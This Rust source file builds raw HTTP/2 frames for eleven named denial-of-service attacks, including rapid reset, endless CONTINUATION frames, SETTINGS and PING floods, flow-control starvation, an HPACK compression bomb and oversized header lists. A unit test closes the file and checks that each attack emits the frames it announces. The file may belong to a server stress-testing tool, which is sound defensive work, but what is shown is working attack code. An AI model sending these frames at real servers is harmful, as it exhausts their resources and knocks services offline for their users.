//! The frames that attackers of HTTP/2 send.

/// One way of asking for much with little.
pub(super) struct FrameAttack {
    pub(super) name: &'static str,
    /// Writes the next unit of a connection, the first one being 0; how many frames it is.
    pub(super) unit: fn(u32, &mut Vec<u8>) -> u32,
}

/// The preface, and SETTINGS without any.
pub(super) const HELLO: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";

/// `GET http://a/`, and with another method and path.
const GET: &[u8] = b"\x82\x86\x84\x41\x01a";
/// `GET http://a/` without a word that is remembered.
const GET_PLAIN: &[u8] = b"\x82\x86\x84\x01\x01a";
const GET_LARGE: &[u8] = b"\x82\x86\x04\x03/1m\x41\x01a";
const POST: &[u8] = b"\x83\x86\x84\x41\x01a";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

/// Flags of HEADERS.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const WHOLE: u8 = END_STREAM | END_HEADERS;

pub(super) const ATTACKS: &[FrameAttack] = &[
    FrameAttack { name: "rapid reset", unit: rapid_reset },
    FrameAttack { name: "CONTINUATION", unit: continuation },
    FrameAttack { name: "SETTINGS", unit: settings },
    FrameAttack { name: "PING", unit: ping },
    FrameAttack { name: "empty DATA", unit: empty_data },
    FrameAttack { name: "no window", unit: no_window },
    FrameAttack { name: "tiny windows", unit: tiny_windows },
    FrameAttack { name: "compression bomb", unit: compression_bomb },
    FrameAttack { name: "small references", unit: small_references },
    FrameAttack { name: "large header lists", unit: large_lists },
    FrameAttack { name: "last stream", unit: last_stream },
];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8], out: &mut Vec<u8>) {
    let length = (payload.len() as u32).to_be_bytes();
    out.extend_from_slice(&length[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// The identifier of a client's stream.
fn stream(number: u32) -> u32 {
    2 * number + 1
}

/// Requests that are withdrawn at once.
fn rapid_reset(unit: u32, out: &mut Vec<u8>) -> u32 {
    frame(HEADERS, WHOLE, stream(unit), GET, out);
    frame(RST_STREAM, 0, stream(unit), &[0, 0, 0, 8], out);
    2
}

/// A header block without end.
fn continuation(unit: u32, out: &mut Vec<u8>) -> u32 {
    match unit {
        0 => frame(HEADERS, END_STREAM, 1, GET, out),
        _ => frame(CONTINUATION, 0, 1, b"\0\x01a\x01b", out),
    }
    1
}

fn settings(_: u32, out: &mut Vec<u8>) -> u32 {
    frame(SETTINGS, 0, 0, b"", out);
    1
}

fn ping(_: u32, out: &mut Vec<u8>) -> u32 {
    frame(PING, 0, 0, b"12345678", out);
    1
}

/// A body of empty DATA frames that does not end.
fn empty_data(unit: u32, out: &mut Vec<u8>) -> u32 {
    match unit {
        0 => frame(HEADERS, END_HEADERS, 1, POST, out),
        _ => frame(DATA, 0, 1, b"", out),
    }
    1
}

/// Answers are asked for and never taken.
fn no_window(unit: u32, out: &mut Vec<u8>) -> u32 {
    match unit {
        0 => frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\0", out),
        1..=100 => frame(HEADERS, WHOLE, stream(unit), GET_LARGE, out),
        _ => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 4, 0], out),
    }
    1
}

/// An answer is taken byte by byte.
fn tiny_windows(unit: u32, out: &mut Vec<u8>) -> u32 {
    match unit {
        0 => frame(SETTINGS, 0, 0, b"\0\x04\0\0\0\x01", out),
        1 => frame(HEADERS, WHOLE, 1, GET_LARGE, out),
        _ => frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1], out),
    }
    1
}

/// A field of 3,000 bytes is remembered, then named 4,000 times with a byte each.
fn compression_bomb(unit: u32, out: &mut Vec<u8>) -> u32 {
    let mut block = GET_PLAIN.to_vec();
    match unit {
        0 => {
            block.extend_from_slice(b"\x40\x01a\x7f\xb9\x16");
            block.resize(block.len() + 3_000, b'a');
        }
        _ => block.resize(block.len() + 4_000, 0xbe),
    }
    frame(HEADERS, WHOLE, stream(unit), &block, out);
    1
}

/// A field of a few bytes is named 4,000 times with a byte each.
fn small_references(unit: u32, out: &mut Vec<u8>) -> u32 {
    frame(HEADERS, WHOLE, stream(unit), &[GET, &[0xbe; 4_000]].concat(), out);
    1
}

/// 300 fields, which is more than any head has.
fn large_lists(unit: u32, out: &mut Vec<u8>) -> u32 {
    frame(HEADERS, END_STREAM, stream(unit), GET, out);
    frame(CONTINUATION, END_HEADERS, stream(unit), &b"\0\x01a\x01b".repeat(300), out);
    2
}

/// A frame on the highest possible stream, then one on another stream.
fn last_stream(unit: u32, out: &mut Vec<u8>) -> u32 {
    frame(HEADERS, WHOLE, if unit == 0 { (1 << 31) - 1 } else { stream(unit) }, GET, out);
    1
}

#[cfg(test)]
mod tests {
    //! Attacks send frames, as many as announced.
    use super::*;

    #[test]
    fn units_are_whole_frames() {
        for attack in ATTACKS {
            for unit in 0..3 {
                let (mut out, mut count) = (Vec::new(), 0);
                let said = (attack.unit)(unit, &mut out);
                let mut rest = &out[..];
                while let [a, b, c, ..] = rest {
                    let length = u32::from_be_bytes([0, *a, *b, *c]) as usize;
                    assert!(length <= 16_384, "{}", attack.name);
                    rest = &rest[9 + length..];
                    count += 1;
                }
                assert_eq!(count, said, "{}", attack.name);
            }
        }
    }
}
